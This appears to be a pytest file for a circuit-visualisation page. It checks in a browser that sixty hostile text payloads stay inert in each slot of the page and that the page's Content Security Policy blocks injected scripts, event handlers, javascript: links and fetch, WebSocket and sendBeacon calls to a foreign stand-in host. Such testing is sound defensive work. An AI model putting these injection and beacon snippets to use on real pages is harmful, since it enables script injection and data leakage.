"""Text from outside stays text: sixty payloads in seven slots of the exported page, in a real browser.

In every slot each payload must be read back from the page to the letter (or, where a token is shown, with
signs for what is invisible), and nothing may run, ask a foreign address or complain. Then the policy that
would stop a payload which got through, and the file without a network.
"""

from __future__ import annotations

import copy
import itertools
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from sparsecircuits.viz import render_page
from sparsecircuits.viz.page import embed_json
from tests.viz.fixture import demo_document, hostile_document, link, node, random_circuit, report_card
from tests.viz.payloads import FOREIGN, PAYLOADS, Watched, as_shown

Open = Callable[..., Watched]
TEXTS = "all => all.map(e => e.textContent)"


@pytest.fixture
def watched(chromium: Any, tmp_path: Path) -> Iterator[Open]:
    """A function that opens a page's HTML from disk, in one window that is watched throughout."""
    context = chromium.new_context()
    seen, numbers = Watched.over(context.new_page()), itertools.count()

    def open_it(page: str | dict[str, Any], fragment: str = "") -> Watched:
        path = tmp_path / f"{next(numbers)}.html"
        path.write_bytes((page if isinstance(page, str) else render_page(page)).encode("utf-8"))
        seen.page.goto(path.as_uri() + fragment)
        return seen

    yield open_it
    context.close()


def document_of(*circuits: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {**demo_document(), "summary": None, "circuits": list(circuits), **more}


def small(i: int, **more: Any) -> dict[str, Any]:
    """A circuit of one edge, number ``i``."""
    circuit = random_circuit("sparse", "small", 1, 0)
    nodes = [node("0.mlp.act_in.1"), node("0.mlp.post_act.2")]
    edges = [link("0.mlp.act_in.1", "0.mlp.post_act.2", 0.5)]
    return {**circuit, "nodes": nodes, "edges": edges, "samples": [], "id": f"sparse/{i}", **more}


def texts(seen: Watched, selector: str) -> list[str]:
    return seen.page.locator(selector).evaluate_all(TEXTS)


def test_there_are_sixty_payloads_and_they_are_not_harmless(chromium: Any, tmp_path: Path) -> None:
    """The watch sees what payloads do on a page that escapes nothing."""
    assert len(set(PAYLOADS)) == 60
    page = chromium.new_page()
    seen = Watched.over(page)
    for payload in PAYLOADS[:3] + PAYLOADS[13:17]:
        page.set_content(f"<p>{payload}</p>")
    page.wait_for_timeout(100)
    assert len(seen.dialogs) >= 5
    assert any(url.startswith(FOREIGN) for url in seen.requests)
    with pytest.raises(AssertionError):
        seen.assert_harmless()
    page.close()


def test_slot_token_text(watched: Open) -> None:
    """Tokens that write a node and logits that it moves: in the panel, the drawing and the search."""
    circuit = small(0)
    circuit["nodes"][0]["tokens_in"] = [[text, 0.5] for text in PAYLOADS]
    circuit["nodes"][1]["logits_out"] = [[text, -0.5] for text in PAYLOADS]
    seen = watched(document_of(circuit), "#sparse/0/0.mlp.act_in.1")
    shown = [as_shown(text) for text in PAYLOADS]
    assert texts(seen, "#panel .tok") == shown
    seen.page.locator('[data-node="0.mlp.post_act.2"]').click()
    assert texts(seen, "#panel .tok") == shown
    titles = [json.loads(text) for text in texts(seen, "#graph .chip title")]
    assert titles
    assert set(titles) <= set(PAYLOADS)
    for payload in PAYLOADS:
        seen.page.locator("#search").fill(payload)
    assert seen.page.locator("#search-list img, #search-list script").count() == 0
    seen.assert_harmless("file:")


def test_slot_prompt(watched: Open) -> None:
    """A prompt's tokens, its answer and the other candidate."""
    circuit = small(0)
    sample = {"tokens": list(PAYLOADS), "differs": [0], "probability": 0.9, "full_probability": 0.9}
    values = {"0.mlp.act_in.1": [1.0] * 60, "0.mlp.post_act.2": [-1.0] * 60}
    circuit["samples"] = [
        {**sample, "pair": i, "side": "left", "answer": text, "other": text, "activations": values}
        for i, text in enumerate(PAYLOADS)
    ]
    circuit["samples"][1:] = [{**one, "tokens": ["x"], "activations": {}} for one in circuit["samples"][1:]]
    seen = watched(document_of(circuit), "#sparse/0/0.mlp.act_in.1")
    shown = [as_shown(text) for text in PAYLOADS]
    assert texts(seen, "#prompts > .pair:first-of-type .columns .tok") == shown
    assert texts(seen, "#prompts .answer .tok") == [text for text in shown for _ in range(2)]
    assert len(texts(seen, "#prompts .tok.lit")) == 60
    seen.assert_harmless("file:")


WALK = """async () => {
  const found = [];
  for (let i = 0; i < 60; i++) {
    const heard = new Promise((done) => addEventListener("hashchange", done, { once: true }));
    location.hash = ADDRESS;
    await heard;
    found.push([...document.querySelectorAll(SELECTOR)].map((e) => e.textContent));
  }
  return found;
}"""


def walk(seen: Watched, address: str, selector: str) -> list[list[str]]:
    """The texts of a selector at each of sixty addresses (JavaScript in ``i``)."""
    return seen.page.evaluate(WALK.replace("ADDRESS", address).replace("SELECTOR", repr(selector)))


def test_slot_task(watched: Open) -> None:
    """A task's name in the chooser and the hint, what it is about, and the summary's table."""
    circuits = [small(i, task=text, about=text) for i, text in enumerate(PAYLOADS)]
    document = {**demo_document(), "circuits": circuits}
    row = document["summary"]["tasks"][0]
    document["summary"]["tasks"] = [{**row, "name": text} for text in PAYLOADS]
    seen = watched(document, "#sparse/7")
    spaced = [text.replace("_", " ") for text in PAYLOADS]
    assert texts(seen, "#task option") == spaced
    assert texts(seen, "#summary .tasks tbody th") == spaced
    found = walk(seen, "`#sparse/${i}`", "#facts .about, #card code")
    assert found == [
        [f"{text} — contrast of two candidates", f"sparsecircuits check RUN {text}"] for text in PAYLOADS
    ]
    seen.assert_harmless("file:")


def test_slot_model(watched: Open) -> None:
    """A model's name in the list of models and the chooser; its key in the address, which leads there."""
    model = demo_document()["models"]["sparse"]
    models = {text: {**model, "label": text} for text in PAYLOADS}
    circuits = [small(i, model=text, id=f"{text}/t", about=f"number {i}") for i, text in enumerate(PAYLOADS)]
    seen = watched(document_of(*circuits, models=models))
    assert texts(seen, ".models dt") == list(PAYLOADS)
    assert texts(seen, ".segments a") == list(PAYLOADS)
    link_to = "document.querySelectorAll('.segments a')[(i + 1) % 60].getAttribute('href')"
    found = walk(seen, link_to, "#facts .about")
    assert [about[0].partition(" —")[0] for about in found] == [f"number {(i + 1) % 60}" for i in range(60)]
    seen.assert_harmless("file:")


def test_slot_node_label(watched: Open) -> None:
    """Names and notes of nodes and groups: in the drawing, the panel, its fields, the list."""
    nodes = [node(f"0.mlp.post_act.{i}") for i in range(60)]
    names = [one["name"] for one in nodes]
    labels = {
        "nodes": {name: {"name": text, "note": text} for name, text in zip(names, PAYLOADS, strict=True)},
        "groups": [
            {"name": text, "note": text, "nodes": [name]} for name, text in zip(names, PAYLOADS, strict=True)
        ],
    }
    circuit = small(0, nodes=nodes, edges=[], labels=labels, sha256="0" * 64)
    seen = watched(document_of(circuit))
    assert texts(seen, "#labels .label-name") == [*PAYLOADS, *PAYLOADS]
    assert texts(seen, "#labels .label-note") == [*PAYLOADS, *PAYLOADS]
    titles = texts(seen, "#graph [data-node] title")
    assert [title.partition("\n0.mlp")[0] for title in titles] == list(PAYLOADS)
    assert [title[-len(text) :] for title, text in zip(titles, PAYLOADS, strict=True)] == list(PAYLOADS)
    outlines = texts(seen, "#graph .group title")
    assert outlines == [f"{text}\n{text}\n{name}" for name, text in zip(names, PAYLOADS, strict=True)]
    found = walk(
        seen, "`#sparse/0/0.mlp.post_act.${i}`", ".label-name, .label-note, .label-groups .label-group"
    )
    assert found == [[text, text, text] for text in PAYLOADS]
    # A text that a file of labels may hold can be typed as it is, and is handed out as it is.
    kept = [text for text in PAYLOADS if len(text) <= 80 and text.isprintable() and text == text.strip()]
    assert len(kept) > 30
    for text in kept[1:-1:5]:
        seen.page.locator(".label-edit summary").click()
        seen.page.locator("#label-name").fill(text)
        seen.page.locator("#label-save").click()
        assert texts(seen, ".label-name") == [text]
        seen.page.locator("#label-copy").click()
    seen.assert_harmless("file:")


def test_slot_file_name(watched: Open) -> None:
    """What a file or folder is called is the page's title, in its head and above everything."""
    for text in PAYLOADS:
        seen = watched({**document_of(), "title": text})
        assert texts(seen, "h1, title") == [text, text]
    seen.assert_harmless("file:")


def test_slot_error_page(watched: Open) -> None:
    """A document that the page cannot show is named in what it says instead."""
    page = render_page({**document_of(), "title": "x"})
    head = '{"format":"sparsecircuits.page"'
    assert page.count(head) == 1
    for text in PAYLOADS:
        seen = watched(page.replace(head, '{"format":' + embed_json(text)))
        (told,) = texts(seen, "#notice")
        assert told.startswith(f"It holds {text} version 2; this page reads")
    seen.assert_harmless("file:")


#: What a payload would do that had got into the page, and which part of the policy stops it.
ATTACKS = {
    "add('script', { textContent: 'window.broken = 1' })": "script-src-elem",
    "add('script', { src: url })": "script-src-elem",
    "put('<p id=p onclick=window.broken=1>x</p>').click()": "script-src-attr",
    "put('<img id=p src=data:, onerror=window.broken=1>')": "script-src-attr",
    "put('<a id=p href=javascript:window.broken=1>x</a>').click()": "script-src-elem",
    "setTimeout(() => { try { eval('window.broken = 1'); } catch {} })": "script-src",
    "put('<style id=p>body { background: red }</style>')": "style-src-elem",
    "put('<p id=p style=color:red>x</p>')": "style-src-attr",
    "put(`<link id=p rel=stylesheet href=${url}>`)": "style-src-elem",
    "put(`<img id=p src=${url}>`)": "img-src",
    "put(`<video id=p src=${url}></video>`)": "media-src",
    "put(`<iframe id=p src=${url}></iframe>`)": "frame-src",
    "put(`<object id=p data=${url}></object>`)": "object-src",
    "put(`<form id=p action=${url}></form>`).submit()": "form-action",
    "put(`<base id=p href=${url}>`)": "base-uri",
    "fetch(url).catch(() => 0)": "connect-src",
    "try { new WebSocket('ws://foreign.invalid/'); } catch {}": "connect-src",
    "navigator.sendBeacon(url, 'x')": "connect-src",
}
TRY = """([attack, url]) => new Promise((done) => {
  const put = (html) => {
    document.querySelector("#p")?.remove();
    document.body.insertAdjacentHTML("beforeend", html);
    return document.querySelector("#p");
  };
  const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
  addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), { once: true });
  setTimeout(() => done("nothing"), 2000);
  ATTACK;
})"""


def test_the_policy_stops_what_would_get_through(watched: Open) -> None:
    seen = watched(demo_document())
    failed: dict[str, str] = {}
    seen.page.on("requestfailed", lambda request: failed.update({request.url: request.failure}))
    (policy,) = re.findall(r'Policy" content="([^"]*)"', render_page(demo_document()))
    assert policy.startswith("default-src 'none'; style-src 'sha256-")
    assert policy.endswith("base-uri 'none'; form-action 'none'")
    stopped = {
        attack: seen.page.evaluate(TRY.replace("ATTACK", attack), [attack, f"{FOREIGN}/x"])
        for attack in ATTACKS
    }
    assert stopped == ATTACKS
    assert seen.page.evaluate("window.broken") is None
    # What the browser began to ask it stopped itself, for the policy's sake.
    assert {url for url in seen.requests if url.startswith("http")} <= set(failed)
    assert set(failed.values()) <= {"csp"}
    assert seen.dialogs == []


def test_the_file_needs_no_network_and_names_no_address(watched: Open) -> None:
    """Chosen through and unfolded while the machine is offline; a hostile card is no more than a card."""
    document = hostile_document()
    for test, text in zip(document["circuits"][0]["card"]["tests"], PAYLOADS[13:17:2], strict=True):
        test.update(dict.fromkeys(("name", "asks", "note", "passes", "rules_out", "control_is"), text))
    seen = watched(document)
    seen.page.context.set_offline(True)
    seen = watched(document, "#sparse/single_double_quote/1.attn.v.11")
    seen.page.evaluate("document.querySelectorAll('details').forEach((fold) => { fold.open = true; })")
    for name in ("0.mlp.act_in.41", "1.attn.resid_delta.77"):
        seen.page.locator(f'[data-node="{name}"]').click()
        assert seen.page.locator("#node-name").inner_text() == name
    rows = texts(seen, ".card-tests tbody th")
    assert [row.partition(" ")[2] for row in rows] == list(PAYLOADS[13:17:2])
    urls = seen.page.evaluate(
        "[...document.querySelectorAll('[src], [href], [data], [action], [poster], [srcset]')]"
        ".flatMap((e) => ['src', 'href', 'data', 'action', 'poster', 'srcset'].map((a) => e.getAttribute(a)))"
        ".filter((url) => url && !url.startsWith('#'))"
    )
    assert urls == []
    seen.assert_harmless("file:")


def test_a_hostile_card_is_read_to_the_letter(watched: Open) -> None:
    """All sixty in the report card, which comes from a file beside the circuit."""
    card = report_card()
    card["tests"] = [
        {**card["tests"][0], "test": f"T{i}", "name": t, "asks": t} for i, t in enumerate(PAYLOADS)
    ]
    card["verdicts"] = [{**card["verdicts"][0], "name": text, "meaning": text} for text in PAYLOADS]
    seen = watched(document_of(copy.deepcopy(small(0, card=card))))
    assert texts(seen, ".card-tests tbody th") == [f"T{i} {text}" for i, text in enumerate(PAYLOADS)]
    assert texts(seen, ".verdicts dd") == list(PAYLOADS)
    seen.assert_harmless("file:")
